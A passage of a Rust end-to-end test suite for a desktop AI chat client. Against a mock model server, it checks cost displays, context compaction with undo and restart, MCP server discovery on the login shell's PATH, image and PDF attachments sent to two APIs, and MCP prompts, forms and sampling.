    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "complete", "the answer ended as {status}");
    ensure!(mock.requests().len() == 2, "Continue let the turn make its second request");

    // The line under the answer: tokens in and out, and what it cost.
    let line = app
        .wait_for(
            "the cost line under the answer",
            &format!(
                "const b = document.querySelector('{}'); return b && b.dataset.cost ? {{ text: b.textContent.trim(), cost: Number(b.dataset.cost) }} : null;",
                tid("cost-line")
            ),
            LONG,
        )
        .await?;
    app.screenshot("1-cost-line").await?;
    ensure!(line["text"] == json!("3K in · 200 out · $0.036"), "the cost line: {line}");
    ensure!((line["cost"].as_f64().unwrap_or(0.0) - 0.036).abs() < 1e-9, "the cost: {line}");

    // The conversation's total in the header says the same.
    let header = app
        .wait_for(
            "the conversation's total in the header",
            &format!("const h = document.querySelector('{}'); return h && h.textContent.includes('$') ? h.textContent.replace(/\\s+/g, ' ').trim() : null;", tid("chat-cost")),
            LONG,
        )
        .await?;
    ensure!(header.as_str().is_some_and(|h| h.contains("$0.036") && h.contains("3.2K tokens")), "the header: {header}");

    // The details: each request with its tokens, cost and the call it decided.
    app.click(&tid("cost-line")).await?;
    let rows = app
        .wait_for(
            "the answer's requests",
            &format!(
                "const rs = [...document.querySelectorAll('{}')]; return rs.length === 2 ? rs.map(r => [r.dataset.request, r.innerText.replace(/\\s+/g, ' ').trim()]) : null;",
                tid("cost-request")
            ),
            LONG,
        )
        .await?;
    app.screenshot("2-cost-details").await?;
    let rows = rows.as_array().context("rows")?;
    let text = |i: usize| rows[i][1].as_str().unwrap_or_default().to_owned();
    ensure!(text(0).contains("1,000") || text(0).contains("1K"), "request 1's input: {rows:?}");
    ensure!(
        text(0).contains("$0.013") && text(0).contains("get_time"),
        "request 1 cost $0.013 and decided get_time: {rows:?}"
    );
    ensure!(text(1).contains("$0.023") && text(1).contains("answer"), "request 2 cost $0.023 and answered: {rows:?}");
    app.keys(&(fantoccini::key::Key::Escape + "")).await?;

    // The tool card: its result went out again with the second request.
    app.click(&format!("{} button.head", tid("tool-card"))).await?;
    let resent = app
        .wait_for(
            "the re-sent note on the card",
            &format!("const r = document.querySelector('{}'); return r ? r.textContent : null;", tid("tool-resent")),
            LONG,
        )
        .await?;
    ensure!(resent.as_str().is_some_and(|t| t.starts_with("This result was sent once more")), "the card: {resent}");
    app.screenshot("3-tool-card-resent").await?;

    // Settings → Usage: today's spend in the chart and the totals.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-usage"), LONG).await?;
    app.wait_and_click(&tid("usage-period-7"), LONG).await?;
    let spent = app
        .wait_for(
            "the Usage totals and a drawn chart",
            &format!(
                "const c = document.querySelector('{}'); const chart = document.querySelector('{}'); \
                 return c && chart && chart.dataset.ready === 'true' ? Number(c.dataset.cost) : null;",
                tid("usage-total-cost"),
                tid("usage-chart")
            ),
            LONG,
        )
        .await?;
    ensure!((spent.as_f64().unwrap_or(0.0) - 0.036).abs() < 1e-9, "the week's spend: {spent}");
    let table = app
        .js(
            &format!(
                "return [...document.querySelectorAll('{}')].map(r => r.innerText.replace(/\\s+/g, ' ').trim());",
                tid("usage-row")
            ),
            vec![],
        )
        .await?;
    ensure!(table.to_string().contains("mock-model") && table.to_string().contains("$0.036"), "the table: {table}");
    app.screenshot("4-usage-chart").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- ab. compaction: the meter moves, the loop compacts between tool rounds, the boundary shows, undo, a restart --
//
// A small window (the profile says 8,000 tokens and 1,000 of output; the mock refuses more, as
// OpenAI does) and a report tool whose every result is about 3,000 tokens: a request carrying two
// whole reports passes 80% of what the window leaves, so the loop shortens older results to stubs
// between the tool rounds of one turn. "Compact now" then has the chat's model summarise the first
// exchange (the mock's summariser keeps every FACT line). Written against the merged engine
// (COMPACT + COUNT + PAGING's mock); see CTXUI's report for whether it has run.

/// A report of `n`: 10,000 characters of varied words (they count like prose), its fact first.
fn ab_report(n: u32) -> String {
    let mut out = format!("FACT-{n}: the depot in sector {n} holds {} crates.\n", 100 + n * 7);
    let words = ["amber", "basalt", "cobalt", "delta", "ember", "fjord", "granite", "harbor", "indigo", "juniper"];
    let mut i = n as usize;
    while out.len() < 10_000 {
        out.push_str(words[i % words.len()]);
        out.push_str(&format!("-{} ", i * 31 % 997));
        i += 3;
    }
    out
}

/// Starts recording every figure the composer's context meter shows ("2.9K / 8K"), in order.
const AB_RECORD_METER: &str = "window.__meter = []; const seen = () => {     const t = document.querySelector('[data-testid=\"context-meter-text\"]')?.textContent.trim();     if (t && window.__meter[window.__meter.length - 1] !== t) window.__meter.push(t); };     new MutationObserver(seen).observe(document.body, { subtree: true, childList: true, characterData: true }); seen(); return true;";

/// The used tokens of a meter figure ("2.9K / 8K" -> 2900).
fn ab_used(figure: &str) -> f64 {
    let used = figure.split('/').next().unwrap_or("").trim();
    let (num, mult) = match used.chars().last() {
        Some('K') => (&used[..used.len() - 1], 1_000.0),
        Some('M') => (&used[..used.len() - 1], 1_000_000.0),
        _ => (used, 1.0),
    };
    num.replace(',', "").parse::<f64>().unwrap_or(-1.0) * mult
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ab_compaction_mid_turn_boundary_undo_and_restart() -> Result<()> {
    let Some(pre) = Prereqs::require("ab_compaction") else { return Ok(()) };
    let api = axum::Router::new().route(
        "/v1/report/{n}",
        axum::routing::get(|axum::extract::Path(n): axum::extract::Path<u32>| async move {
            axum::Json(json!({ "data": { "report": ab_report(n) } }))
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let api_addr = listener.local_addr()?;
    tokio::spawn(async move { axum::serve(listener, api).await });

    let call = |n: u32| Reply::tool_call(format!("call_r{n}"), "depot_report", format!(r#"{{"sector":"{n}"}}"#));
    let mock = MockServer::start(
        Script::new(vec![
            call(0),
            Reply::text("Noted: sector 0 holds 100 crates."),
            call(1),
            call(2),
            call(3),
            Reply::text("Sector 2 holds 114 crates (FACT-2)."),
            // "Compact now": the summariser keeps every line with a fact. The history is more
            // than one request of this 8K window holds, so it is summarised in pieces, each
            // request carrying the summary so far.
            Reply::keep_lines("FACT"),
            Reply::keep_lines("FACT"),
            Reply::keep_lines("FACT"),
        ])
        .with_context_window(8_000)
        .with_counted_usage(),
    )
    .await;
    let data = DataDir::new(&mock.base_url())?;
    data.open_store()?.upsert_provider(&switchboard_store::ProviderProfile {
        name: switchboard_e2e::PROVIDER.into(),
        kind: "openai".into(),
        base_url: mock.base_url(),
        model: Some(switchboard_e2e::MODEL.into()),
        options: switchboard_store::ProfileOptions {
            context_window: Some(8_000),
            max_output_tokens: Some(1_000),
            ..Default::default()
        },
    })?;
    let file = json!({ "httpTools": [{
        "name": "depot_report",
        "description": "The full report of one depot sector.",
        "url": format!("http://{api_addr}/v1/report/{{{{sector}}}}"),
        "responsePointer": "/data/report",
        "allowLocalAddresses": true
    }] });
    std::fs::write(data.path().join("tools.json"), serde_json::to_string_pretty(&file)?)?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("ab").await?;

    // A first exchange with one report: the meter shows what the next request sends.
    app.send_message("Read the report of sector 0 and keep track of the depots for me.").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    app.wait_for("the meter", &format!("return !!document.querySelector('{}');", tid("context-meter-text")), LONG)
        .await?;
    app.js(AB_RECORD_METER, vec![]).await?;
    app.screenshot("1-meter-after-first").await?;

    // Three more reports in one turn: the loop compacts between its tool rounds.
    app.send_message("Read the reports of sectors 1 to 3, then tell me what sector 2 holds.").await?;
    let boundary = tid("compaction-boundary");
    app.wait_for(
        "the boundary, live, while the turn runs",
        &format!("return !!document.querySelector('{boundary}');"),
        LONG,
    )
    .await?;
    app.screenshot("2-boundary-live").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the answer with a compaction failed");
    app.screenshot("3-after-turn").await?;
    // The meter moved with the requests, and compaction kept every request under the threshold
    // (80% of the 8K window): it never showed more.
    let seen: Vec<String> = serde_json::from_value(app.js("return window.__meter;", vec![]).await?)?;
    let used: Vec<f64> = seen.iter().map(|f| ab_used(f)).collect();
    ensure!(seen.len() >= 2 && used.windows(2).any(|w| w[1] != w[0]), "the meter did not move: {seen:?}");
    ensure!(used.iter().all(|&u| u <= 6_400.0), "a request went past the threshold: {seen:?}");

    // Mid-turn: inside the second answer, after at least one card and before at least one.
    let places = app
        .js(
            &format!(
                "const a = [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]')][1]; \
         const cards = [...a.querySelectorAll('{card}')]; \
         return [...a.querySelectorAll('{boundary}')].map(b => ({{ \
           before: cards.filter(c => c.compareDocumentPosition(b) & Node.DOCUMENT_POSITION_FOLLOWING).length, \
           after: cards.filter(c => b.compareDocumentPosition(c) & Node.DOCUMENT_POSITION_FOLLOWING).length, \
           text: b.innerText, undone: b.dataset.undone }}));",
                card = tid("tool-card")
            ),
            vec![],
        )
        .await?;
    // Consecutive cards are drawn as one group, so a boundary made between two of its rounds is
    // drawn after the group: inside the answer, after at least one of its cards.
    let between = places.as_array().is_some_and(|ps| ps.iter().any(|p| p["before"].as_u64().unwrap_or(0) >= 1));
    ensure!(between, "no boundary after the turn's tool rounds began: {places}");
    ensure!(
        places.as_array().is_some_and(|ps| ps.iter().all(|p| p["undone"] == json!("false"))),
        "a fresh compaction shows as undone: {places}"
    );
    // Every original result stays shown: three cards, each with its whole report behind it.
    let live = app.transcript().await?;
    ensure!(last_assistant(&live)?.cards().len() == 3, "a card is missing: {live:#?}");
    // The request after the compaction sent stubs, not the reports (the mock saw it).
    ensure!(rig.mock.requests().len() == 6, "requests: {}", rig.mock.requests().len());

    // Compact now, from the chat's menu: a summary below the last message, shown inline.
    app.click(&tid("chat-menu")).await?;
    app.wait_and_click(&tid("chat-menu-compact"), LONG).await?;
    app.wait_for(
        "Compact now's boundary",
        &format!("return !!document.querySelector('{boundary}[data-reason=\"manual\"]');"),
        LONG,
    )
    .await?;
    app.click(&format!("{boundary}[data-reason=\"manual\"] {}", tid("compaction-show-summary"))).await?;
    let summary = app
        .wait_for(
            "the summary, inline",
            &format!("return document.querySelector('{}')?.innerText || null;", tid("compaction-summary")),
            LONG,
        )
        .await?;
    ensure!(summary.as_str().unwrap_or("").contains("FACT-0"), "the summary does not keep the facts: {summary}");
    app.screenshot("3b-compact-now-summary").await?;
    let live = app.transcript().await?;

    // Undo: nothing asked, nothing deleted; the boundary says the full history goes next.
    app.click(&format!("{boundary}[data-reason=\"manual\"] {}", tid("compaction-undo"))).await?;
    app.wait_for(
        "every boundary marked undone",
        &format!("return [...document.querySelectorAll('{boundary}')].every(b => b.dataset.undone === 'true');"),
        LONG,
    )
    .await?;
    ensure!(
        app.js(&format!("return !!document.querySelector('{}');", tid("confirm-dialog")), vec![]).await?
            == json!(false),
        "undo asked something"
    );
    app.screenshot("4-undone").await?;
    let after_undo = app.transcript().await?;
    ensure!(after_undo == live, "undo changed the messages shown");
    app.close().await?;

    // A restart shows the same: the boundary in its place, undone.
    let app = rig.driver.launch("ab").await?;
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    let shown = places.as_array().map_or(0, |p| p.len()) + 1;
    app.wait_for("the reopened boundaries, undone", &format!("const bs = [...document.querySelectorAll('{boundary}')]; return bs.length === {shown} && bs.every(b => b.dataset.undone === 'true');"), LONG).await?;
    let reopened = app.transcript().await?;
    ensure!(reopened == live, "the reopened conversation differs:\nlive: {live:#?}\nreopened: {reopened:#?}");
    app.screenshot("5-restarted").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- ae. started from the desktop: servers are found on the login shell's PATH --------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ae_login_shell_path_finds_servers() -> Result<()> {
    let Some(pre) = Prereqs::require("ae_login_shell") else { return Ok(()) };
    let mock = MockServer::start(Script::new(vec![Reply::text("unused")])).await;
    let mut data = DataDir::new(&mock.base_url())?;
    // A person's home whose profile puts a folder of their own tools on PATH, and prints a
    // greeting (which must not be taken for the environment).
    let home = data.path().join("home");
    let tools = home.join("tools");
    std::fs::create_dir_all(&tools)?;
    std::fs::write(home.join(".bash_profile"), "echo 'Welcome back!'\nexport PATH=\"$HOME/tools:$PATH\"\n")?;
    let everything = switchboard_e2e::repo_root().join("node_modules/.bin/mcp-server-everything");
    ensure!(everything.exists(), "{} is missing: run scripts/setup.sh", everything.display());
    let wrapper = tools.join("sb-everything");
    std::fs::write(&wrapper, format!("#!/bin/sh\nexec '{}' \"$@\"\n", everything.display()))?;
    std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    // As a desktop launcher starts it: the session's bare PATH, the person's shell and home.
    let node_dir = which_dir("node")?;
    data.set_env("PATH", format!("{node_dir}:/usr/bin:/bin"));
    data.set_env("SHELL", "/bin/bash");
    data.set_env("HOME", home.as_os_str());
    let marker = data.path().display().to_string();
    for (name, command) in [("every", "sb-everything"), ("missing", "sb-not-installed")] {
        data.add_mcp_server(
            name,
            switchboard_mcp::ServerConfig {
                command: Some(command.into()),
                args: vec!["stdio".into(), marker.clone()],
                ..Default::default()
            },
        )?;
    }
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("ae").await?;

    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    // The server only the login shell's PATH has is found and ready.
    app.wait_for(
        "the server on the login shell's PATH to be ready",
        &format!(
            "return !!document.querySelector('{}[data-name=\"every\"][data-state=\"ready\"]');",
            tid("mcp-server")
        ),
        LONG,
    )
    .await?;
    // The one that is nowhere says which PATH was searched (the login shell's, first) and what
    // to do.
    let reason = app
        .wait_for(
            "the missing server's reason",
            &format!(
                "const r = document.querySelector('{}[data-name=\"missing\"][data-state=\"failed\"] {}'); return r ? r.textContent : null;",
                tid("mcp-server"),
                tid("mcp-reason")
            ),
            LONG,
        )
        .await?;
    let reason = reason.as_str().unwrap_or_default();
    ensure!(reason.contains("'sb-not-installed' was not found on the PATH programs get ("), "reason: {reason}");
    ensure!(reason.contains(&format!("({}:", tools.display())), "the login shell's PATH comes first: {reason}");
    ensure!(reason.contains("command -v sb-not-installed"), "says what to do: {reason}");
    app.screenshot("1-login-shell-path").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

/// The folder `program` is in on this test's PATH.
fn which_dir(program: &str) -> Result<String> {
    let path = std::env::var_os("PATH").context("no PATH")?;
    std::env::split_paths(&path)
        .find(|d| d.join(program).is_file())
        .map(|d| d.display().to_string())
        .with_context(|| format!("{program} is not on PATH"))
}

// ----- ac. attachments: a pasted image and a dropped PDF, two APIs, a restart ----------------

const AC_FIRST: &str = "A red and blue picture, and a one-page report: revenue is up 12%.";
const AC_SECOND: &str = "Claude sees the same two files in the history.";
const AC_PDF_TEXT: &str = "Quarterly report: revenue up 12%";

/// A one-page PDF with a text layer (`text` in Helvetica), with a correct cross-reference table.
fn ac_pdf(text: &str) -> Vec<u8> {
    let stream = format!("BT /F1 18 Tf 72 720 Td ({text}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_owned(),
        format!("<< /Length {} >>\nstream\n{stream}\nendstream", stream.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_owned(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1).as_bytes(),
    );
    out
}

/// Pastes a 640×400 PNG drawn on a canvas into the composer, as the clipboard gives a copied
/// screenshot: a `paste` event whose `clipboardData` holds the file (built in the page).
const AC_PASTE_JS: &str = r#"
const done = arguments[arguments.length - 1];
const c = document.createElement('canvas');
c.width = 640; c.height = 400;
const g = c.getContext('2d');
g.fillStyle = '#d33'; g.fillRect(0, 0, 320, 400);
g.fillStyle = '#36c'; g.fillRect(320, 0, 320, 400);
g.fillStyle = '#fff'; g.font = 'bold 48px sans-serif'; g.fillText('pasted', 240, 215);
c.toBlob((blob) => {
  try {
    const file = new File([blob], 'image.png', { type: 'image/png' });
    const dt = new DataTransfer();
    dt.items.add(file);
    const input = document.querySelector('[data-testid="composer-input"]');
    let e;
    try { e = new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }); } catch { e = null; }
    if (!e || !e.clipboardData) {
      e = new Event('paste', { bubbles: true, cancelable: true });
      Object.defineProperty(e, 'clipboardData', { value: dt });
    }
    input.dispatchEvent(e);
    done({ size: blob.size, files: dt.files.length });
  } catch (err) { done({ error: String(err) }); }
}, 'image/png');
"#;

/// Drops the file `arguments[1]` (its bytes) named `arguments[0]` on the chat, as a file manager does.
/// Keeps the status of every request the page makes to the shell's `upload` scheme in
/// `window.__uploads` (a request that fails outright keeps none).
const AC_WATCH_UPLOADS_JS: &str = r#"
window.__uploads = [];
const plain = window.fetch;
window.fetch = async (...args) => {
  const response = await plain(...args);
  if (/^(upload:|http:\/\/upload\.localhost)/.test(String(args[0]))) window.__uploads.push(response.status);
  return response;
};
"#;

const AC_DROP_JS: &str = r#"
const bytes = Uint8Array.from(arguments[1]);
const file = new File([bytes], arguments[0], { type: 'application/pdf' });
const dt = new DataTransfer();
dt.items.add(file);
const target = document.querySelector('[data-testid="chat-scroller"]') || document.body;
for (const type of ['dragenter', 'dragover', 'drop']) {
  const e = new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true });
  target.dispatchEvent(e);
}
return dt.files.length;
"#;

/// The attachments of the composer (`attachments`) or of the user messages (`message-attachments`)
/// as `[name, status, kind, meta, thumbnail loaded]`.
fn ac_items_js(list: &str) -> String {
    format!(
        "return [...document.querySelectorAll('[data-testid=\"{list}\"] [data-testid=\"attachment\"]')].map(a => [\
         a.dataset.name, a.dataset.status, a.dataset.kind, \
         (a.querySelector('[data-testid=\"attachment-meta\"]') || {{}}).textContent || '', \
         (a.querySelector('[data-testid=\"attachment-thumb\"]') || {{ dataset: {{}} }}).dataset.loaded || '']);"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ac_attachments_pasted_and_dropped_go_to_two_apis_and_survive_a_restart() -> Result<()> {
    let replies = vec![Reply::text(AC_FIRST), Reply::text(AC_SECOND)];
    let Some(rig) = rig("ac_attachments", replies).await? else { return Ok(()) };
    rig.data.open_store()?.upsert_provider(&switchboard_store::ProviderProfile {
        name: "claude".into(),
        kind: "anthropic".into(),
        base_url: rig.mock.base_url(),
        model: Some("claude-sonnet-4-5".into()),
        options: Default::default(),
    })?;
    let app = rig.driver.launch("ac").await?;
    app.wait_composer_ready(LONG).await?;

    // Paste an image, drop a PDF: both are handed to the shell as request bodies of its `upload`
    // scheme (watched here: the statuses of those requests) and shown in the composer.
    app.js(AC_WATCH_UPLOADS_JS, vec![]).await?;
    let pasted = app.js_async(AC_PASTE_JS, vec![]).await?;
    ensure!(pasted["files"] == json!(1), "the paste did not carry the image: {pasted}");
    let pdf = ac_pdf(AC_PDF_TEXT);
    let dropped = app.js(AC_DROP_JS, vec![json!("report.pdf"), json!(pdf)]).await?;
    ensure!(dropped == json!(1), "the drop did not carry the PDF: {dropped}");
    let composer = ac_items_js("attachments");
    let items = app
        .wait_for(
            "the pasted image and the dropped PDF attached",
            &format!(
                "const items = (() => {{ {composer} }})(); \
                 return items.length === 2 && items.every(i => i[1] !== 'uploading') && items[0][4] === 'true' ? items : null;"
            ),
            LONG,
        )
        .await?;
    ensure!(
        items[0][1] == json!("ready")
            && items[0][2] == json!("image")
            && items[0][0].as_str().is_some_and(|n| n.starts_with("Pasted image")),
        "the pasted image: {items}"
    );
    ensure!(
        items[1] == json!(["report.pdf", "ready", "pdf", items[1][3].clone(), ""])
            && items[1][3].as_str().is_some_and(|m| m.starts_with("PDF · 1 page · ")),
        "the dropped PDF: {items}"
    );
    app.screenshot("1-composer-with-attachments").await?;
    // Each file went in one request of the scheme, taken (not the IPC slices' fallback).
    let uploads = app.js("return window.__uploads;", vec![]).await?;
    ensure!(uploads == json!([200, 200]), "the upload scheme's answers: {uploads}");

    // The PDF's preview is its extracted text.
    app.click(&format!("{} [data-name=\"report.pdf\"] button.open", tid("attachments"))).await?;
    let preview = app
        .wait_for(
            "the PDF's preview",
            &format!(
                "const t = document.querySelector('{}'); return t ? t.textContent : null;",
                tid("attachment-preview-text")
            ),
            LONG,
        )
        .await?;
    ensure!(preview.as_str().is_some_and(|t| t.contains(AC_PDF_TEXT)), "the PDF's text: {preview}");
    app.screenshot("2-pdf-preview").await?;
    app.click(&tid("attachment-preview-close")).await?;

    app.send_message("What is in these two files?").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer did not complete");
    pick_provider(&app, "claude").await?;
    app.send_message("And you, Claude?").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the answer on Claude did not complete");
    let sent = ac_items_js("message-attachments");
    let live = app
        .wait_for(
            "the sent message's thumbnail",
            &format!("const items = (() => {{ {sent} }})(); return items.length === 2 && items[0][4] === 'true' ? items : null;"),
            LONG,
        )
        .await?;
    ensure!(live[0][2] == json!("image") && live[1][0] == json!("report.pdf"), "the sent message's files: {live}");
    app.screenshot("3-sent-to-two-apis").await?;

    // Each API got the files in its own form: Chat Completions an image_url data URL, Anthropic
    // an image block (base64) in the history; the PDF went along (as a file/document or its text).
    let requests = rig.mock.requests();
    let paths: Vec<&str> = requests.iter().map(|r| r.path.as_str()).collect();
    ensure!(paths == ["/v1/chat/completions", "/v1/messages"], "each answer went to its profile's API: {paths:?}");
    let chat = requests[0].body.to_string();
    ensure!(
        chat.contains("\"image_url\"") && chat.contains("data:image/"),
        "the Chat request has no image part: {chat:.2000}"
    );
    ensure!(chat.contains("report.pdf"), "the Chat request has no PDF: {chat:.2000}");
    let claude = requests[1].body.to_string();
    ensure!(
        claude.contains("\"type\":\"image\"") && claude.contains("\"base64\"") && claude.contains("report.pdf"),
        "the Anthropic request lacks the files: {claude:.2000}"
    );
    let shown = app.transcript().await?;
    app.close().await?;

    // A restart: the chat shows the same files, thumbnails read again from the store.
    let app = rig.driver.launch("ac").await?;
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    let reopened = app
        .wait_for(
            "the reopened message's files",
            &format!("const items = (() => {{ {sent} }})(); return items.length === 2 && items[0][4] === 'true' ? items : null;"),
            LONG,
        )
        .await?;
    ensure!(reopened == live, "the reopened files differ:\nlive: {live}\nreopened: {reopened}");
    let again = app.transcript().await?;
    ensure!(again == shown, "the reopened conversation differs:\nlive: {shown:#?}\nreopened: {again:#?}");
    app.screenshot("4-restarted").await?;
    // The image's preview is the full picture.
    app.click(&format!("{} [data-kind=\"image\"] button.open", tid("message-attachments"))).await?;
    let full = app
        .wait_for(
            "the image's preview",
            &format!(
                "const i = document.querySelector('{}'); return i && i.complete && i.naturalWidth ? [i.naturalWidth, i.naturalHeight] : null;",
                tid("attachment-preview-image")
            ),
            LONG,
        )
        .await?;
    ensure!(full == json!([640, 400]), "the full image: {full}");
    app.screenshot("5-image-preview").await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- ad. MCP beyond tools: a prompt from `/`, a resource attached, a form, a sampling run ---

/// The composer's text.
async fn ad_composer_text(app: &App) -> Result<String> {
    let v = app.js(&format!("return document.querySelector('{}').value;", tid("composer-input")), vec![]).await?;
    Ok(v.as_str().unwrap_or_default().to_owned())
}

/// Types `text` into the input matching `css` (real key events).
async fn ad_type(app: &App, css: &str, text: &str) -> Result<()> {
    let el = app.client().find(fantoccini::Locator::Css(css)).await.with_context(|| format!("finding {css}"))?;
    el.click().await?;
    el.send_keys(text).await.with_context(|| format!("typing into {css}"))
}

/// Allows the MCP tool call the model made (another program's tool asks first).
async fn ad_allow_tool(app: &App) -> Result<()> {
    app.wait_for(
        "the approval dialog for the MCP tool",
        &format!("return !!document.querySelector('{} .btn.primary');", tid("approval-dialog")),
        LONG,
    )
    .await?;
    app.click(&format!("{} .btn.primary", tid("approval-dialog"))).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ad_mcp_features_prompt_resource_form_and_sampling_with_the_everything_server() -> Result<()> {
    use fantoccini::key::Key;
    let Some(pre) = Prereqs::require("ad_mcp_features") else { return Ok(()) };
    const SAMPLED: &str = "Cables hum at dusk / a thousand calls find their way / the board lights go dark";
    let mock = MockServer::start(
        Script::new(vec![
            Reply::text("Alice will do well as head of Engineering."),
            Reply::tool_call("call_form", "every__trigger-elicitation-request", "{}"),
            Reply::text("Thanks, I have your details."),
            Reply::tool_call(
                "call_sample",
                "every__trigger-sampling-request",
                r#"{"prompt":"Write a haiku about switchboards","maxTokens":64}"#,
            ),
            Reply::text("The server got its haiku."),
            Reply::text("It lists what the everything server offers."),
        ])
        // The server's sampling request (its text is "Resource <tool> context: <prompt>"): only it has this.
        .with_route("context: Write a haiku", vec![Reply::text(SAMPLED)]),
    )
    .await;
    let data = DataDir::new(&mock.base_url())?;
    let everything = switchboard_e2e::repo_root().join("node_modules/.bin/mcp-server-everything");
    ensure!(everything.exists(), "{} is missing: run scripts/setup.sh", everything.display());
    data.add_mcp_server(
        "every",
        switchboard_mcp::ServerConfig {
            command: Some(everything.display().to_string()),
            args: vec!["stdio".into()],
            ..Default::default()
        },
    )?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("ad").await?;
    app.wait_composer_ready(LONG).await?;

    // `/` in the empty composer: the app's commands and the server's prompts (once it runs).
    ad_type(&app, &tid("composer-input"), "/").await?;
    let item = |name: &str| format!("{}[data-name=\"{name}\"]", tid("slash-item"));
    app.wait_for(
        "the server's prompts in the / menu",
        &format!("return !!document.querySelector('{}');", item("every:completable-prompt")),
        LONG,
    )
    .await?;
    app.screenshot("1-slash-menu").await?;
    // Typing filters; Enter takes the active entry.
    app.keys("compl").await?;
    app.wait_for(
        "the menu filtered to the prompt",
        &format!(
            "const items = [...document.querySelectorAll('{}')]; return items.length >= 1 && items[0].dataset.name === 'every:completable-prompt';",
            tid("slash-item")
        ),
        LONG,
    )
    .await?;
    app.keys(&Key::Enter.to_string()).await?;

    // Its arguments: the server's completion offered while typing, the second narrowed by the first.
    app.wait_for("the prompt's form", &format!("return !!document.querySelector('{}');", tid("prompt-form")), LONG)
        .await?;
    ad_type(&app, &tid("arg-department"), "Eng").await?;
    let suggestion = |text: &str| {
        format!(
            "return [...document.querySelectorAll('{} li')].some(li => li.textContent.trim() === {});",
            tid("arg-suggestions"),
            js_str(text)
        )
    };
    app.wait_for("the department suggested by the server", &suggestion("Engineering"), LONG).await?;
    app.screenshot("2-prompt-form-completion").await?;
    app.keys(&Key::Down.to_string()).await?;
    app.keys(&Key::Enter.to_string()).await?;
    ad_type(&app, &tid("arg-name"), "A").await?;
    app.wait_for("a name suggested for Engineering", &suggestion("Alice"), LONG).await?;
    app.keys(&Key::Down.to_string()).await?;
    app.keys(&Key::Enter.to_string()).await?;
    app.click(&tid("args-form-submit")).await?;
    app.wait_for(
        "the prompt's message in the composer",
        &format!(
            "return document.querySelector('{}').value === 'Please promote Alice to the head of the Engineering team.';",
            tid("composer-input")
        ),
        LONG,
    )
    .await?;

    app.screenshot("3-prompt-in-composer").await?;
    app.click(&tid("send-button")).await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    let first = rig.mock.requests();
    let body = serde_json::to_string(first[0].messages())?;
    ensure!(
        body.contains("Please promote Alice to the head of the Engineering team."),
        "the prompt's text was not sent: {body}"
    );

    // A form: the server asks during its tool's call; the card names the server and the tool.
    app.send_message("Please ask me for my details.").await?;
    ad_allow_tool(&app).await?;
    let card = tid("elicitation-card");
    app.wait_for(
        "the form inside the tool's card",
        &format!("return !!document.querySelector('{} {card}');", tid("tool-card")),
        LONG,
    )
    .await?;
    let defaults = app
        .js(
            &format!(
                "const c = document.querySelector('{card}'); return {{ text: c.textContent, integer: c.querySelector('[data-testid=\"elicit-field-integer\"] input').value }};"
            ),
            vec![],
        )
        .await?;
    ensure!(
        defaults["text"].as_str().is_some_and(|t| t.contains("every") && t.contains("trigger-elicitation-request")),
        "the card does not name the server and tool: {defaults}"
    );
    ensure!(defaults["integer"] == json!("42"), "the integer field's default is not applied: {defaults}");
    ad_type(&app, &format!("{card} [data-testid=\"elicit-field-name\"] input"), "Ada Lovelace").await?;
    app.screenshot("5-elicitation-form").await?;
    app.click(&tid("elicitation-accept")).await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the answer with a form failed");
    let requests = rig.mock.requests();
    let result = serde_json::to_string(requests.last().context("no request")?.messages())?;
    ensure!(
        result.contains("Ada Lovelace") && result.contains("accept"),
        "the tool's result does not carry the answer: {result}"
    );
    app.screenshot("6-elicitation-answered").await?;

